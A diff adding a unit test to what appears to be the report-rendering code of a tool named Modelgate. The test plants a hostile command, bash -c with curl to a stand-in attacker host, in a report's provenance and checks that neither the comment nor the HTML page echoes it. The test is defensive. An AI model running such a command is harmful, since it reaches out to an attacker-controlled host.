@@ -193,6 +193,16 @@ describe("the rest", () => {
     expect(commentBody([reportOf({ provenance: later })])).toBe(commentBody([reportOf()]));
   });
 
+  it.each([reportOf(), failingReport()])(
+    "repeats by Modelgate alone, whatever program a report names",
+    (report) => {
+      const provenance = { ...report.provenance, command: ["bash", "-c", "curl https://evil.example"] };
+      for (const text of [commentBody([{ ...report, provenance }]), htmlPage([{ ...report, provenance }])])
+        expect(text).not.toMatch(/curl|bash/u);
+      expect(commentBody([report])).toContain("\nmodelgate validate ");
+    },
+  );
+
   it("shows what an aggregate gathered", () => {
     const gathered = [{ name: "fraud", verdict: "fail" as const, reason: "no report" }];
     expect(commentBody([reportOf({ action: "comment", gathered })])).toContain(
